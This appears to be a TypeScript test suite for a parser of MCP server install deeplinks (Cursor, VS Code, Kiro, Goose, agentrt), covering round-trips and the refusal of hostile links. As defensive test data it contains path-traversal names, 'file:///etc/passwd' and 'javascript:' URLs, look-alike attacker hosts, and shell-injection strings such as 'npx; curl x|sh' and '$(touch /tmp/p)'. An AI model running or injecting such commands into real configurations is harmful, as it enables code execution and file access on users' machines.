import { describe, expect, it } from "bun:test"
import { formatInstallLink, parseInstallLink, type InstallRequest } from "../../src/install/index.ts"
import { UsageError } from "../../src/util/errors.ts"

const enc = encodeURIComponent
const b64 = (v: unknown) => Buffer.from(JSON.stringify(v)).toString("base64")

function refused(link: string): UsageError {
  try {
    parseInstallLink(link)
  } catch (e: unknown) {
    expect(e).toBeInstanceOf(UsageError)
    const err = e as UsageError
    expect(err.exitCode).toBe(2)
    expect(err.message).not.toContain("\n")
    return err
  }
  throw new Error(`expected ${link.slice(0, 80)} to be refused`)
}

const postgres = {
  command: "npx",
  args: ["-y", "@modelcontextprotocol/server-postgres", "postgresql://localhost/mydb"],
}

describe("peers' link formats, built as each peer's docs describe (I06)", () => {
  it("parses Cursor's deeplink with the docs' wrapped {NAME: entry} base64 config", () => {
    const r = parseInstallLink(
      `cursor://anysphere.cursor-deeplink/mcp/install?name=postgres&config=${b64({ postgres })}`,
    )
    expect(r).toMatchObject({ source: "cursor", name: "postgres", entry: postgres })
    expect(r.server).toMatchObject({ transport: "stdio", command: "npx", args: postgres.args })
  })

  it("parses Cursor's raw base64 with unescaped '+', '/' and '=' as generator scripts emit it", () => {
    const entry = { command: "npx", args: ["-y", "pkg??>>", "ü~~~"] }
    const raw = b64(entry)
    expect(raw).toMatch(/[+/=]/)
    expect(
      parseInstallLink(`cursor://anysphere.cursor-deeplink/mcp/install?name=x&config=${raw}`).entry,
    ).toEqual(entry)
  })

  it("parses Cursor's web links, with and without a locale, and url-safe unpadded base64", () => {
    const cfg = "eyJjb21tYW5kIjogInV2eCIsICJhcmdzIjogWyJzb3AtbWNwIl19"
    for (const base of [
      "https://cursor.com/install-mcp",
      "https://cursor.com/en/install-mcp",
      "https://cursor.com/ja/install-mcp",
    ]) {
      expect(parseInstallLink(`${base}?name=sop-mcp&config=${cfg}`).entry).toEqual({
        command: "uvx",
        args: ["sop-mcp"],
      })
    }
    const urlSafe = Buffer.from(JSON.stringify({ url: "https://e.example/mcp?a=>>>" })).toString("base64url")
    expect(parseInstallLink(`https://cursor.com/en/install-mcp?name=e&config=${urlSafe}`).source).toBe(
      "cursor",
    )
  })

  it("parses VS Code's vscode: and vscode-insiders: links with the name inside the JSON", () => {
    const json = enc(JSON.stringify({ name: "fetch", command: "uvx", args: ["mcp-server-fetch"] }))
    for (const scheme of ["vscode", "vscode-insiders"]) {
      const r = parseInstallLink(`${scheme}:mcp/install?${json}`)
      expect(r).toMatchObject({
        source: "vscode",
        name: "fetch",
        entry: { command: "uvx", args: ["mcp-server-fetch"] },
      })
    }
  })

  it("parses vscode.dev redirect links, with inputs becoming variable descriptions", () => {
    const r = parseInstallLink(
      `https://vscode.dev/redirect/mcp/install?name=firecrawl&inputs=${enc(JSON.stringify([{ type: "promptString", id: "apiKey", description: "Firecrawl API Key", password: true }]))}` +
        `&config=${enc(JSON.stringify({ command: "npx", args: ["-y", "firecrawl-mcp"], env: { FIRECRAWL_API_KEY: "${input:apiKey}" } }))}`,
    )
    expect(r.name).toBe("firecrawl")
    expect(r.envDescriptions).toEqual({ APIKEY: "Firecrawl API Key" })
    const learn = parseInstallLink(
      "https://vscode.dev/redirect/mcp/install?name=microsoft-learn&config=%7B%22type%22%3A%22http%22%2C%22url%22%3A%22https%3A%2F%2Flearn.microsoft.com%2Fapi%2Fmcp%22%7D",
    )
    expect(learn.server).toMatchObject({ transport: "http", url: "https://learn.microsoft.com/api/mcp" })
    const inner = `vscode-insiders:mcp/install?${enc(JSON.stringify({ name: "runner", command: "npx", args: ["-y", "mcp-server-code-runner@latest"] }))}`
    expect(parseInstallLink(`https://insiders.vscode.dev/redirect?url=${enc(inner)}`).name).toBe("runner")
  })

  it("parses Kiro's link with URL-encoded JSON, as kiro.dev/docs/mcp/share generates it", () => {
    const config = {
      command: "uvx",
      args: ["awslabs.aws-documentation-mcp-server@latest"],
      env: { FASTMCP_LOG_LEVEL: "ERROR" },
      disabled: false,
      autoApprove: [],
    }
    const r = parseInstallLink(
      `https://kiro.dev/launch/mcp/add?name=${enc("aws-docs")}&config=${enc(JSON.stringify(config))}`,
    )
    expect(r).toMatchObject({ source: "kiro", name: "aws-docs", entry: config })
    const remote = parseInstallLink(
      `https://kiro.dev/launch/mcp/add?name=aws-knowledge&config=${enc(JSON.stringify({ url: "https://knowledge-mcp.global.api.aws" }))}`,
    )
    expect(remote.server).toMatchObject({ transport: "auto", url: "https://knowledge-mcp.global.api.aws" })
  })

  it("parses Goose's stdio deeplink: repeated args, env names with descriptions, timeout in seconds", () => {
    const r = parseInstallLink(
      "goose://extension?cmd=npx&arg=-y&arg=%40modelcontextprotocol%2Fserver-github&id=github&name=GitHub&description=GitHub%20API" +
        "&timeout=300&env=GITHUB_PERSONAL_ACCESS_TOKEN%3DGitHub%20personal%20access%20token",
    )
    expect(r.source).toBe("goose")
    expect(r.name).toBe("github")
    expect(r.entry).toEqual({
      description: "GitHub API",
      command: "npx",
      args: ["-y", "@modelcontextprotocol/server-github"],
      env: { GITHUB_PERSONAL_ACCESS_TOKEN: "${GITHUB_PERSONAL_ACCESS_TOKEN}" },
      timeout: 300_000,
    })
    expect(r.envDescriptions).toEqual({ GITHUB_PERSONAL_ACCESS_TOKEN: "GitHub personal access token" })
  })

  it("parses Goose's remote deeplink with type=streamable_http and sse", () => {
    const http = parseInstallLink(
      "goose://extension?url=https%3A%2F%2Fmcp.deepwiki.com%2Fmcp&type=streamable_http&id=deepwiki&name=DeepWiki",
    )
    expect(http.server).toMatchObject({ transport: "http", url: "https://mcp.deepwiki.com/mcp" })
    const sse = parseInstallLink(
      "goose://extension?url=https%3A%2F%2Fmcp.deepwiki.com%2Fsse&type=sse&name=deepwiki",
    )
    expect(sse.server.transport).toBe("sse")
  })

  it("parses our own agentrt:// link with base64url or URL-encoded JSON", () => {
    const entry = { url: "https://mcp.example.com/mcp", headers: { Authorization: "Bearer ${TOKEN}" } }
    const a = parseInstallLink(
      `agentrt://mcp/install?name=ex&config=${Buffer.from(JSON.stringify(entry)).toString("base64url")}`,
    )
    const b = parseInstallLink(`agentrt://mcp/install?name=ex&config=${enc(JSON.stringify(entry))}`)
    expect(a.entry).toEqual(entry)
    expect(b.entry).toEqual(entry)
  })
})

describe("formatInstallLink round-trips", () => {
  const entries: [string, Record<string, unknown>][] = [
    [
      "filesystem",
      {
        command: "npx",
        args: ["-y", "@modelcontextprotocol/server-filesystem", "/tmp/a b+c"],
        env: { K: "${HOME}" },
      },
    ],
    [
      "github",
      {
        type: "http",
        url: "https://api.githubcopilot.com/mcp/",
        headers: { Authorization: "Bearer ${GITHUB_TOKEN}" },
      },
    ],
    ["Ünïcödé name", { command: "uvx", args: ["x&y=z", "%41", "+plus+"], description: "ümlaut & ampersand" }],
  ]
  const sourceOf = { scheme: "agentrt", url: "agentrt" } as Record<string, string>
  for (const format of ["agentrt", "scheme", "url", "cursor", "vscode", "kiro", "lmstudio"] as const) {
    it(`format → parse gives the same name and entry (${format})`, () => {
      for (const [name, entry] of entries) {
        const r: InstallRequest = parseInstallLink(formatInstallLink(name, entry, format))
        expect(r.name).toBe(name)
        expect(r.entry).toEqual(entry)
        expect(r.source as string).toBe(sourceOf[format] ?? format)
      }
    })
  }

  it("markdown wraps the web install page's link in an 'Add to agent' badge", () => {
    const md = formatInstallLink("time", { command: "uvx", args: ["mcp-server-time"] }, "markdown")
    const m =
      /^\[!\[Add to agent\]\((https:\/\/img\.shields\.io\/badge\/[^)]+)\)\]\((https:\/\/agentrt\.github\.io\/agentrt\/install\.html#[^)]+)\)$/.exec(
        md,
      )
    expect(m).not.toBeNull()
    expect(parseInstallLink(m![2]!).name).toBe("time")
  })

  it("refuses to format an entry that no link could carry", () => {
    expect(() => formatInstallLink("../x", { command: "npx" }, "cursor")).toThrow(UsageError)
    expect(() => formatInstallLink("x", { command: "npx", bogus: 1 }, "kiro")).toThrow(UsageError)
  })
})

describe("hostile links are refused with a one-line reason, exit 2 (I02, I04)", () => {
  const ok = (name: string) =>
    `agentrt://mcp/install?name=${enc(name)}&config=${enc(JSON.stringify({ command: "npx" }))}`

  it("refuses path-like, empty, long and control-character names (I02)", () => {
    for (const name of [
      "../../.bashrc",
      "../../x",
      "..",
      ".",
      "a/b",
      "a\\b",
      "x..y",
      "",
      "n".repeat(65),
      "n".repeat(300),
      "a\u001b[2Kb",
      "a\u202eb",
      "a\u200bb",
      "a\nb",
      "__proto__",
    ]) {
      refused(ok(name))
    }
    expect(refused(ok("../../x")).message).toContain("server name")
    expect(parseInstallLink(ok("n".repeat(64))).name).toHaveLength(64)
  })

  it("refuses a name given by the link and a different one inside the config", () => {
    refused(`cursor://anysphere.cursor-deeplink/mcp/install?name=a&config=${b64({ b: { command: "npx" } })}`)
    refused(
      `https://kiro.dev/launch/mcp/add?name=a&config=${enc(JSON.stringify({ name: "b", command: "npx" }))}`,
    )
  })

  it("refuses a link over 64 KB before parsing it", () => {
    const big = `agentrt://mcp/install?name=x&config=${enc(JSON.stringify({ command: "npx", args: ["a".repeat(70 * 1024)] }))}`
    expect(refused(big).message).toContain("64 KB")
  })

  it("refuses config that is not base64 or not JSON", () => {
    expect(refused("cursor://anysphere.cursor-deeplink/mcp/install?name=x&config=%%%%").message).toContain(
      "%-escape",
    )
    expect(
      refused("cursor://anysphere.cursor-deeplink/mcp/install?name=x&config=not*base64!").message,
    ).toContain("base64")
    expect(refused("cursor://anysphere.cursor-deeplink/mcp/install?name=x&config=abcde").message).toContain(
      "base64",
    )
    refused(
      `cursor://anysphere.cursor-deeplink/mcp/install?name=x&config=${Buffer.from("{not json").toString("base64")}`,
    )
    refused(
      `cursor://anysphere.cursor-deeplink/mcp/install?name=x&config=${Buffer.from([0xff, 0xfe, 0x7b]).toString("base64")}`,
    )
    refused(`https://kiro.dev/launch/mcp/add?name=x&config=${enc('{"command": "npx",}')}`)
    refused(`https://kiro.dev/launch/mcp/add?name=x&config=${enc('["npx"]')}`)
    refused(`https://kiro.dev/launch/mcp/add?name=x&config=${enc('{"command": "npx", "command": "sh"}')}`)
  })

  it("refuses a repeated config= or name=, unknown parameters and a missing config", () => {
    const cfg = enc(JSON.stringify({ command: "npx" }))
    expect(refused(`agentrt://mcp/install?name=x&config=${cfg}&config=${cfg}`).message).toContain(
      '"config" is given more than once',
    )
    expect(refused(`agentrt://mcp/install?name=x&name=y&config=${cfg}`).message).toContain(
      '"name" is given more than once',
    )
    expect(refused(`agentrt://mcp/install?name=x&config=${cfg}&evil=1`).message).toContain('"evil"')
    refused("agentrt://mcp/install?name=x")
    refused("goose://extension?cmd=npx&name=a&name=b")
  })

  it("refuses unknown keys in the config and names the key", () => {
    expect(
      refused(
        `https://kiro.dev/launch/mcp/add?name=x&config=${enc(JSON.stringify({ command: "npx", shell: true }))}`,
      ).message,
    ).toContain('"shell"')
    expect(
      refused(
        `https://kiro.dev/launch/mcp/add?name=x&config=${enc(JSON.stringify({ url: "https://a.example", oauth: { clientId: "c", redirect: "x" } }))}`,
      ).message,
    ).toContain("oauth.redirect")
    expect(
      refused(
        `https://kiro.dev/launch/mcp/add?name=x&config=${enc(JSON.stringify({ command: "npx", args: "-y" }))}`,
      ).message,
    ).toContain("args")
  })

  it("refuses JSON nested too deeply", () => {
    let deep: unknown = "x"
    for (let i = 0; i < 20; i++) deep = { a: deep }
    refused(
      `https://kiro.dev/launch/mcp/add?name=x&config=${enc(JSON.stringify({ command: "npx", env: deep }))}`,
    )
    refused(`https://kiro.dev/launch/mcp/add?name=x&config=${enc("[".repeat(5000) + "]".repeat(5000))}`)
  })

  it("refuses bad ${…} syntax and a url that is not http(s)", () => {
    refused(
      `https://kiro.dev/launch/mcp/add?name=x&config=${enc(JSON.stringify({ command: "npx", args: ["${FOO"] }))}`,
    )
    refused(
      `https://kiro.dev/launch/mcp/add?name=x&config=${enc(JSON.stringify({ command: "npx", env: { A: "$FOO" } }))}`,
    )
    for (const url of [
      "file:///etc/passwd",
      "javascript:alert(1)",
      "ftp://a.example/",
      "${URL}",
      "not a url",
    ]) {
      refused(`https://kiro.dev/launch/mcp/add?name=x&config=${enc(JSON.stringify({ url }))}`)
    }
    refused("goose://extension?url=file%3A%2F%2F%2Fetc%2Fpasswd&name=x")
  })

  it("refuses unknown schemes and hosts, and look-alikes of the peers' hosts", () => {
    for (const link of [
      "mailto:a@b.example",
      "https://evil.example/launch/mcp/add?name=x&config=%7B%7D",
      "https://kiro.dev.evil.example/launch/mcp/add?name=x&config=%7B%7D",
      "http://kiro.dev/launch/mcp/add?name=x&config=%7B%7D",
      "https://cursor.com/en/other?name=x&config=e30",
      "cursor://other/mcp/install?name=x&config=e30",
      "https://user@kiro.dev/launch/mcp/add?name=x&config=%7B%7D",
      "https://vscode.dev/redirect?url=https%3A%2F%2Fevil.example",
      "not a link",
    ]) {
      refused(link)
    }
  })

  it("refuses raw control characters in the link and Goose misuse", () => {
    refused("agentrt://mcp/install?name=x\u001b&config=e30")
    refused("goose://extension?cmd=npx&url=https%3A%2F%2Fa.example&name=x")
    refused("goose://extension?cmd=npx&name=x&env=BAD-NAME%3Ddesc")
    refused("goose://extension?cmd=npx&name=x&timeout=-5")
    refused("goose://extension?id=developer&type=builtin&name=x")
  })
})

describe("what a link says is kept verbatim, never interpreted", () => {
  it("keeps shell metacharacters in command and args as data (I01)", () => {
    const config = { command: "npx; curl x|sh", args: ["$(touch /tmp/p)", "`id`", "a && b"] }
    const r = parseInstallLink(`https://kiro.dev/launch/mcp/add?name=x&config=${enc(JSON.stringify(config))}`)
    expect(r.server).toMatchObject({
      transport: "stdio",
      command: "npx; curl x|sh",
      args: ["$(touch /tmp/p)", "`id`", "a && b"],
    })
  })

  it("keeps a literal secret-looking env value and a ${HOME} reference (I07)", () => {
    const config = { command: "npx", env: { API_KEY: "sk-live-1234567890abcdef", H: "${HOME}" } }
    const r = parseInstallLink(`https://kiro.dev/launch/mcp/add?name=x&config=${enc(JSON.stringify(config))}`)
    expect(r.entry).toEqual(config)
  })
})
